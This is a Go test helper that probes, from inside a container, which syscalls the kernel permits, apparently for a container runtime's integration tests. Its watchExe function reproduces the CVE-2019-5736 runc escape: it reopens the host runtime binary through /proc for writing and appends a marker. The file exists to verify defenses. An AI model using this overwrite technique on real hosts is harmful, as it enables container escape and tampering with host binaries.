// Command probe runs inside test containers and reports, one "name=result" line each, what
// the kernel let it do. It is built statically by the integration tests.
package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: probe syscalls|personality N|euid|watch-exe DIR")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "syscalls":
		syscalls()
	case "personality":
		n, _ := strconv.ParseUint(os.Args[2], 0, 64)
		_, _, e := unix.RawSyscall(unix.SYS_PERSONALITY, uintptr(n), 0, 0)
		report("personality", e)
	case "euid":
		fmt.Printf("euid=%d\n", os.Geteuid())
	case "watch-exe":
		secs := 20
		if len(os.Args) > 3 {
			secs, _ = strconv.Atoi(os.Args[3])
		}
		watchExe(os.Args[2], time.Duration(secs)*time.Second)
	default:
		fmt.Fprintln(os.Stderr, "unknown probe", os.Args[1])
		os.Exit(2)
	}
}

func report(name string, e syscall.Errno) {
	if e == 0 {
		fmt.Printf("%s=ok\n", name)
		return
	}
	fmt.Printf("%s=%s\n", name, unix.ErrnoName(e))
}

func reportErr(name string, err error) {
	var e syscall.Errno
	if err != nil && !errors.As(err, &e) {
		fmt.Printf("%s=%v\n", name, err)
		return
	}
	report(name, e)
}

func syscalls() {
	reportErr("mkdir", unix.Mkdir("/tmp/probe-dir", 0o755))
	reportErr("mount", unix.Mount("none", "/tmp", "tmpfs", 0, ""))
	reportErr("unshare-net", unix.Unshare(unix.CLONE_NEWNET))
	reportErr("unshare-user", unix.Unshare(unix.CLONE_NEWUSER))
	_, err := unix.KeyctlJoinSessionKeyring("probe")
	reportErr("keyctl", err)
	// A wrong magic: EINVAL when the call is allowed through, never a reboot.
	_, _, e := unix.RawSyscall6(unix.SYS_REBOOT, 1, 2, 3, 0, 0, 0)
	report("reboot", e)
	// clone with a namespace flag; a child that gets born exits at once, touching nothing.
	r, _, e := unix.RawSyscall6(unix.SYS_CLONE, unix.CLONE_NEWUTS|uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
	if e == 0 && r == 0 {
		unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	if e == 0 {
		var ws unix.WaitStatus
		unix.Wait4(int(r), &ws, 0, nil)
	}
	report("clone-newuts", e)
	_, _, e = unix.RawSyscall(unix.SYS_GETPID, 0, 0, 0)
	report("getpid", e)
}

// watchExe plays the CVE-2019-5736 attacker. It holds a lock that a hijacked runtime
// process (one that exec'd /proc/self/exe of the runtime) waits for, opens that process's
// /proc/<pid>/exe, lets it go, and once it has exited tries to reopen the binary for writing.
func watchExe(dir string, limit time.Duration) {
	lockDir := filepath.Join(dir, "x")
	os.MkdirAll(lockDir, 0o700)
	lock, err := os.Open(lockDir)
	if err != nil {
		fmt.Println("watch=setup-failed", err)
		return
	}
	unix.Flock(int(lock.Fd()), unix.LOCK_EX)
	os.WriteFile(filepath.Join(dir, "ready"), nil, 0o644)
	self := os.Getpid()
	deadline := time.Now().Add(limit)
	seen := map[string]bool{}
	say := func(s string) {
		if !seen[s] {
			seen[s] = true
			fmt.Println(s)
		}
	}
	for time.Now().Before(deadline) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || pid == 1 {
				continue
			}
			link, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
			if strings.HasSuffix(link, "/busybox") || strings.HasSuffix(link, "/probe") {
				continue
			}
			fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH, 0)
			if err != nil {
				say(fmt.Sprintf("open-exe-during-setup=%s", errName(err)))
				continue
			}
			say("open-exe=ok")
			if wfd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_WRONLY, 0); err == nil {
				unix.Close(wfd)
				say("write-while-running=ok")
			} else {
				say("write-while-running=" + errName(err))
			}
			unix.Flock(int(lock.Fd()), unix.LOCK_UN)
			for i := 0; i < 5000; i++ {
				if _, err := os.Stat(fmt.Sprintf("/proc/%d", pid)); err != nil {
					break
				}
				time.Sleep(time.Millisecond)
			}
			wfd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_APPEND, 0)
			if err != nil {
				say("reopen-for-write=" + errName(err))
				return
			}
			unix.Write(wfd, []byte("#pwned by a container\n"))
			say("reopen-for-write=ok WROTE")
			return
		}
		time.Sleep(200 * time.Microsecond)
	}
	say("watch=timeout")
}

func errName(err error) string {
	var e syscall.Errno
	if errors.As(err, &e) {
		return unix.ErrnoName(e)
	}
	return err.Error()
}
